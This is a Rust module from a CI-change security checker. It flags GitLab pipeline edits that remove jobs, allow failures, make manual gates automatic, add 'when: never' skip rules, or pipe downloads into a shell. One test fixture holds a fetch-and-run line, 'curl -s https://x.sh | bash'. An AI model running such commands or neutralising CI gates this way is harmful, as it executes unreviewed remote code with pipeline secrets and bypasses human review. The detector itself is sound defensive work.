//! GitLab CI: what a change to `.gitlab-ci.yml` (or a local include) does —
//! jobs removed, failures allowed, manual gates made automatic, rules that
//! skip a job or the whole pipeline, downloads piped into a shell.

use std::collections::BTreeSet;

use serde_yaml::Value;

use crate::finding::Severity;
use crate::rules::workflow_risk::pipeline::Risk;
use crate::rules::workflow_risk::script_risk::{self, ScriptRisk};
use crate::rules::workflow_risk::yaml_doc::{get, key, scalar, strings, Doc, Seg};

/// Top-level keys that configure the pipeline rather than name a job.
const RESERVED: &[&str] = &[
    "default",
    "include",
    "stages",
    "variables",
    "workflow",
    "image",
    "services",
    "cache",
    "before_script",
    "after_script",
    "types",
    "spec",
];

fn jobs(v: &Value) -> Vec<(String, &Value)> {
    v.as_mapping()
        .map(|m| {
            m.iter()
                .filter_map(|(k, j)| Some((scalar(k)?, j)))
                .filter(|(k, j)| !RESERVED.contains(&k.as_str()) && j.is_mapping())
                .collect()
        })
        .unwrap_or_default()
}

pub(crate) fn check(base: Option<&Doc>, head: &Doc) -> Vec<Risk> {
    let empty = Doc::empty();
    let base_doc = base.unwrap_or(&empty);
    let (b, h) = (&base_doc.value, &head.value);
    let mut out = Vec::new();
    let (b_jobs, h_jobs) = (jobs(b), jobs(h));

    for (id, _) in b_jobs.iter().filter(|(id, _)| !id.starts_with('.')) {
        if !h_jobs.iter().any(|(h, _)| h == id) {
            out.push(
                Risk::new(
                    format!("job `{id}` is removed"),
                    "the check or gate it ran no longer runs in the pipeline",
                    Severity::High,
                )
                .job(Some(id)),
            );
        }
    }

    let skip_rules = |v: &Value| -> BTreeSet<String> {
        get(v, "rules")
            .and_then(Value::as_sequence)
            .map(|rules| {
                rules
                    .iter()
                    .filter(|r| get(r, "when").and_then(scalar).as_deref() == Some("never"))
                    .map(|r| serde_yaml::to_string(r).unwrap_or_default())
                    .collect()
            })
            .unwrap_or_default()
    };
    let (b_wf, h_wf) = (get(b, "workflow"), get(h, "workflow"));
    let b_skips = b_wf.map(skip_rules).unwrap_or_default();
    if let Some(wf) = h_wf {
        for (i, rule) in skips(wf) {
            if !b_skips.contains(&rule) {
                out.push(
                    Risk::new(
                        "a `workflow: rules` entry now stops pipelines with `when: never`",
                        "when it matches, no job of the pipeline runs, so no check fails",
                        Severity::High,
                    )
                    .line(head.line(&[
                        key("workflow"),
                        key("rules"),
                        Seg::Index(i),
                    ])),
                );
            }
        }
    }

    let base_scripts: BTreeSet<ScriptRisk> = b_jobs
        .iter()
        .flat_map(|(_, j)| scripts(j))
        .chain(get(b, "default").map(scripts).unwrap_or_default())
        .flat_map(|s| script_risk::risks(&s, &BTreeSet::new(), false))
        .collect();

    for (id, job) in &h_jobs {
        let at = |k: &str| head.line(&[key(id), key(k)]);
        let base_job = b_jobs.iter().find(|(b, _)| b == id).map(|(_, j)| *j);
        if let Some(bj) = base_job {
            if allows_failure(get(job, "allow_failure"))
                && !allows_failure(get(bj, "allow_failure"))
            {
                out.push(
                    Risk::new(
                        format!("job `{id}` now has `allow_failure`"),
                        "its failure no longer fails the pipeline: the check passes whatever the job finds",
                        Severity::High,
                    )
                    .job(Some(id))
                    .line(at("allow_failure")),
                );
            }
            if manual(bj) && !manual(job) {
                out.push(
                    Risk::new(
                        format!(
                            "job `{id}` is no longer manual (`when: {}`)",
                            get(job, "when").and_then(scalar).unwrap_or_else(|| "on_success".into())
                        ),
                        "the person who had to start it by hand is no longer asked: it runs on its own",
                        Severity::High,
                    )
                    .job(Some(id))
                    .line(at("when").or_else(|| at("rules"))),
                );
            }
            let b_skip = skip_rules(bj);
            for (i, rule) in skips(job) {
                if !b_skip.contains(&rule) {
                    out.push(
                        Risk::new(
                            format!("job `{id}` gets a rule that skips it (`when: never`)"),
                            "when the rule matches, the job does not run and its check cannot fail",
                            Severity::High,
                        )
                        .job(Some(id))
                        .line(head.line(&[
                            key(id),
                            key("rules"),
                            Seg::Index(i),
                        ])),
                    );
                }
            }
            if get(job, "when").and_then(scalar).as_deref() == Some("never")
                && get(bj, "when").and_then(scalar).as_deref() != Some("never")
            {
                out.push(
                    Risk::new(
                        format!("job `{id}` is switched off by `when: never`"),
                        "a job that never runs can neither fail nor gate anything",
                        Severity::High,
                    )
                    .job(Some(id))
                    .line(at("when")),
                );
            }
        }
        for script in scripts(job) {
            for risk in script_risk::risks(&script, &BTreeSet::new(), false) {
                if let ScriptRisk::PipeToShell(line) = &risk {
                    if base_scripts.contains(&risk) {
                        continue;
                    }
                    out.push(
                        Risk::new(
                            format!("job `{id}` pipes a download into a shell: `{line}`"),
                            "whatever the server returns at run time executes with the job's CI variables, unreviewed",
                            Severity::High,
                        )
                        .job(Some(id))
                        .line(head.find_text(line, head.line(&[key(id)]))),
                    );
                }
            }
        }
    }
    out
}

/// `rules:` entries that end in `when: never`, with their index.
fn skips(v: &Value) -> Vec<(usize, String)> {
    get(v, "rules")
        .and_then(Value::as_sequence)
        .map(|rules| {
            rules
                .iter()
                .enumerate()
                .filter(|(_, r)| get(r, "when").and_then(scalar).as_deref() == Some("never"))
                .map(|(i, r)| (i, serde_yaml::to_string(r).unwrap_or_default()))
                .collect()
        })
        .unwrap_or_default()
}

fn allows_failure(v: Option<&Value>) -> bool {
    match v {
        Some(Value::Bool(b)) => *b,
        Some(Value::Mapping(_)) => true,
        Some(Value::String(s)) => s == "true",
        _ => false,
    }
}

/// Whether a job waits for a person: `when: manual` on the job or a rule.
fn manual(job: &Value) -> bool {
    let is_manual = |v: &Value| get(v, "when").and_then(scalar).as_deref() == Some("manual");
    is_manual(job)
        || get(job, "rules")
            .and_then(Value::as_sequence)
            .is_some_and(|rules| rules.iter().any(is_manual))
}

fn scripts(job: &Value) -> Vec<String> {
    ["before_script", "script", "after_script"]
        .iter()
        .flat_map(|k| strings(get(job, k)))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn risks(base: &str, head: &str) -> Vec<Risk> {
        let b = Doc::parse(base).expect("base");
        let h = Doc::parse(head).expect("head");
        check(Some(&b), &h)
    }

    #[test]
    fn gitlab_neutralisations() {
        let base = "stages: [test, deploy]\ntest:\n  script: [make test]\ndeploy:\n  when: manual\n  script: [make deploy]\nlint:\n  script: [make lint]\n";
        let head = "stages: [test, deploy]\ntest:\n  script: [make test]\n  allow_failure: true\ndeploy:\n  when: always\n  script: [make deploy]\n";
        let r = risks(base, head);
        let whats: Vec<&str> = r.iter().map(|r| r.what.as_str()).collect();
        assert!(
            whats.iter().any(|w| w.contains("`lint` is removed")),
            "{whats:?}"
        );
        assert!(
            whats
                .iter()
                .any(|w| w.contains("`test` now has `allow_failure`")),
            "{whats:?}"
        );
        assert!(
            whats
                .iter()
                .any(|w| w.contains("`deploy` is no longer manual")),
            "{whats:?}"
        );
        assert_eq!(r.len(), 3);
        let allow = r
            .iter()
            .find(|r| r.what.contains("allow_failure"))
            .expect("allow");
        assert_eq!(allow.line, Some(4));
    }

    #[test]
    fn gitlab_skip_rules_and_downloads() {
        let base = "test:\n  script: [make test]\n";
        let head = "test:\n  rules:\n    - if: '$CI_COMMIT_BRANCH'\n      when: never\n  script:\n    - curl -s https://x.sh | bash\n    - make test\n";
        let r = risks(base, head);
        assert_eq!(r.len(), 2, "{r:?}");
        assert_eq!(r[0].line, Some(3));
        assert_eq!(r[1].line, Some(6));
    }

    #[test]
    fn benign_gitlab_edit() {
        let base = "test:\n  script: [make test]\n";
        let head = "test:\n  image: rust:1.85\n  script: [make test, make doc]\n";
        assert!(risks(base, head).is_empty());
    }
}
